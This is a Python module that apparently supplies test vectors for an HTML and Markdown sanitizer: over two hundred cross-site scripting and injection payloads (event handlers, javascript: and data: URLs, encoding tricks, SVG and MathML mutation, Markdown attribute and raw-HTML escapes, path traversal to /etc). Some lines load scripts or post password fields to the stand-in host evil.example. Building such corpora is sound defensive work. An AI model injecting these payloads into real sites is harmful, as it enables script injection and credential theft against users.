"""Pieces of pages that try to run something, composed for this project: each says ``alert`` where it would run.

The families are those of the published lists (OWASP's cheat sheet, the HTML5 security cheat sheet); the pieces are our own.
"""

from __future__ import annotations

HTML = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/alert.js></SCRIPT>
<script/x>alert(1)</script >
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type=module>alert(1)</script>
<script>alert(1)
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src=x OnErRoR="alert(1)">
<img/src=x/onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src=`x`onerror=alert(1)>
<img src=x onerror&#61;alert(1)>
<img\tsrc=x\tonerror=alert(1)>
<img src="javascript:alert(1)">
<img src=x srcset="javascript:alert(1) 2x">
<img src=x:alert(1) onload=eval(src)>
<img longdesc="javascript:alert(1)" src=x.png>
<img usemap="javascript:alert(1)" src=x.png>
<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">
<body onload=alert(1)>
<html onmouseover=alert(1)>words</html>
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>
<svg><set attributeName=onmouseover to="alert(1)"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><a href='javascript:alert(1)'/></svg>#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">click</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>
<a href="javascript:alert(1)">click</a>
<a href=" javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(1)">click</a>
<a href="java&#10;script:alert(1)">click</a>
<a href="java&Tab;script:alert(1)">click</a>
<a href="&#x6A;avascript&colon;alert(1)">click</a>
<a href="&#1;javascript:alert(1)">click</a>
<a href=" javascript:alert(1)">click</a>
<a href="javascript&#x3A;alert(1)">click</a>
<a href="vbscript:alert(1)">click</a>
<a href="livescript:alert(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="blob:https://evil.example/alert">click</a>
<a href="filesystem:https://evil.example/alert">click</a>
<a href="view-source:javascript:alert(1)">click</a>
<a href="x" onclick=alert(1)>click</a>
<a href="x" onfocus=alert(1) autofocus tabindex=1>click</a>
<a href="x" ping="//evil.example/alert">click</a>
<a id="x" href="x" target="search-frame" onauxclick="alert(1)">click</a>
<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=x.png>
<iframe src="javascript:alert(1)"></iframe>
<iframe src="//evil.example/alert"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa" onload=alert(1)></iframe>
<iframe src="https://www.youtube.com.evil.example/embed/aaaaaaaaaaa?alert"></iframe>
<iframe src="https://www.youtube.com@evil.example/embed/aaaaaaaaaaa?alert"></iframe>
<iframe src="https://evil.example/videos/embed/2bb2e2a5-7a1c-4b2b-8e4a-8f8a1f5b6c7d"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>" type=text/html></object>
<object><param name=movie value="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<embed src="//evil.example/alert.swf" AllowScriptAccess=always>
<applet code="alert.class" archive="//evil.example/alert.jar"></applet>
<form action="javascript:alert(1)"><button>click</button></form>
<form action="//evil.example/alert"><input name=password type=password><input type=submit></form>
<form id=search-page data-search="//evil.example/alert.js"></form>
<form class="essay-video" data-video-src="javascript:alert(1)"><button>play</button></form>
<button formaction="javascript:alert(1)">click</button>
<button popovertarget=x onbeforetoggle=alert(1)>click</button>
<input type=image src=x onerror=alert(1)>
<input type=checkbox onchange=alert(1)>
<input autofocus onfocus=alert(1)>
<isindex action="javascript:alert(1)" type=image>
<select autofocus onfocus=alert(1)><option>one</option></select>
<textarea autofocus onfocus=alert(1)>words</textarea>
<keygen autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source src=x onerror=alert(1)></video>
<video poster="javascript:alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)><summary>words</summary></details>
<marquee onstart=alert(1)>words</marquee>
<bgsound src="javascript:alert(1)">
<link rel=stylesheet href="//evil.example/alert.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="default-src *; alert">
<base href="//evil.example/alert/">
<style>@import "//evil.example/alert.css";</style>
<style>body{background:url(//evil.example/alert)}</style>
<style>input[value^=a]{background:url(//evil.example/alert)}</style>
<style><!--</style><img src=x onerror=alert(1)>
<p style="position:fixed;inset:0;z-index:99999" title=alert>covers the page</p>
<p style="position:/**/fixed">covers the page, alert</p>
<p style="pos\69tion:fixed">covers the page, alert</p>
<p style="background:url(//evil.example/alert)">words</p>
<p style="background:u\72l(//evil.example/alert)">words</p>
<p style="background:image-set('//evil.example/alert' 1x)">words</p>
<p style="width:expression(alert(1))">words</p>
<p style="behavior:url(//evil.example/alert.htc)">words</p>
<p style="-moz-binding:url(//evil.example/alert.xml#x)">words</p>
<p style="margin:-9999px;alert">words</p>
<p style="color:red;transform:translate(-100vw);alert">words</p>
<div class="side-bar" title="alert">passes for the side bar</div>
<div id="site-nav" data-tree="//evil.example/alert.js">passes for the menu</div>
<div id="search-input" data-search="//evil.example/alert.js">passes for the box</div>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">words</td></tr></table>
<blockquote cite="javascript:alert(1)">words</blockquote>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">words</p></noscript>
<xmp><img src=x onerror=alert(1)></xmp>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><script>alert(1)</script></noframes>
<title><img src=x onerror=alert(1)></title>
<plaintext><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?><b>words</b>
<!DOCTYPE x [<!ENTITY y "alert">]><b>words</b>
<custom-element onclick=alert(1)>words</custom-element>
<x onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>words</x>
<p onpointerrawupdate=alert(1) onscrollend=alert(1) onbeforematch=alert(1)>words</p>
<p onıload=alert(1) ſcript=alert(1)>words</p>
<p "onclick=alert(1)>words</p>
<p x="&quot;><script>alert(1)</script>">words</p>
<a href="x&quot; onclick=&quot;alert(1)">click</a>
<p title="</p><script>alert(1)</script>">words</p>
<p lang="&quot;><script>alert(1)</script>">words</p>
<p class="&quot;><script>alert(1)</script>">words</p>
<p id="&quot;><script>alert(1)</script>">words</p>
<h2 onclick="alert(1)" style="position:fixed">A heading</h2>
<ol start="1&quot; onclick=alert(1)"><li value='"><script>alert(1)</script>'>one</li></ol>
<td onclick=alert(1)>no table</td>
<p/onclick=alert(1)>words</p>
""".strip()

MARKDOWN = r"""
[click](javascript:alert(1))
[click](<javascript:alert(1)>)
[click](&#106;avascript:alert(1))
[click](JAVASCRIPT:alert(1) "title")
[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[click][1]\n\n[1]: javascript:alert(1)
[click][2]\n\n[2]: x\n{: onclick="alert(1)"}
[click](x "\" onclick=\"alert(1)")
[click](x){: onclick="alert(1)"}
[click](x){:onclick="alert(1)" .side-bar}
[click](x){: style="position:fixed;inset:0" title="alert"}
[click](x){: href="javascript:alert(1)"}
![alt](javascript:alert(1))
![alt](x "title"){: onerror="alert(1)"}
![alt\" onerror=\"alert(1)](x)
![<script>alert(1)</script>](x)
![alt](../../../../etc/alert)
<javascript:alert(1)>
Words.\n{: onclick="alert(1)" style="position: fixed"}
# Heading\n{: #x onclick="alert(1)"}
## Heading {#x" onclick="alert(1)}
* item\n{: onclick="alert(1)"}
> quote\n{: cite="javascript:alert(1)"}
{:x: onclick="alert(1)"}\nWords.\n{: x}
| a | b |\n| c | d |\n{: onclick="alert(1)"}
*[HTML]: <script>alert(1)</script>\n\nHTML is an abbreviation.
*[HTML]: " onmouseover="alert(1)\n\nHTML is an abbreviation.
Footnote[^1].\n\n[^1]: <script>alert(1)</script>
Footnote[^"onclick="alert(1)].\n\n[^"onclick="alert(1)]: text
{::nomarkdown}<script>alert(1)</script>{:/nomarkdown}
{::nomarkdown}\n<img src=x onerror=alert(1)>\n{:/nomarkdown}
Words {::nomarkdown}<b onclick=alert(1)>{:/} words.
{::comment}--><script>alert(1)</script>{:/comment}
{::options parse_block_html="true" /}\n<div onclick="alert(1)">words</div>
<div markdown="1" onclick="alert(1)">\n[click](javascript:alert(1))\n</div>
`code`{: onclick="alert(1)"}
~~~ js" onclick="alert(1)\ncode\n~~~
~~~\n</code></pre><script>alert(1)</script>\n~~~
$$ \\href{javascript:alert(1)}{x} </div><script>alert(1)</script> $$
{% raw %}<script>alert(1)</script>{% endraw %}
{{ "<script>alert(1)</script>" }}
{{ page.evil }}
{% capture x %}<img src=x onerror=alert(1)>{% endcapture %}{{ x }}
{{ "javascript:alert(1)" | prepend: "[click](" | append: ")" }}
```{raw} html\n<script>alert(1)</script>\n```
```{raw} latex\n\\input{/etc/alert}\n```
```{include} ../../../../etc/alert\n```
```{literalinclude} ../../../../etc/alert\n```
```{image} javascript:alert(1)\n```
```{figure} x.png\n:target: javascript:alert(1)\n```
```{video} javascript:alert(1)\n:title: words\n```
```{video} //evil.example/alert\n:title: words\n```
```{video} https://www.youtube.com/watch?v=aaaaaaaaaaa&x="onload="alert(1)\n:title: "><script>alert(1)</script>\n```
```{button-link} javascript:alert(1)\nclick\n```
```{note}\n<script>alert(1)</script>\n:class: side-bar\n```
```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n\n`click <javascript:alert(1)>`_\n```
```{meta}\n:http-equiv=refresh: 0;url=javascript:alert(1)\n```
{download}`x <../../../../etc/alert>`
""".strip()


def vectors(text: str) -> list[str]:
    r"""Return the pieces; ``\n`` and ``\t`` in them stand for the end of a line and a tabulator."""
    return [line.replace(r"\n", "\n").replace(r"\t", "\t") for line in text.splitlines() if line]
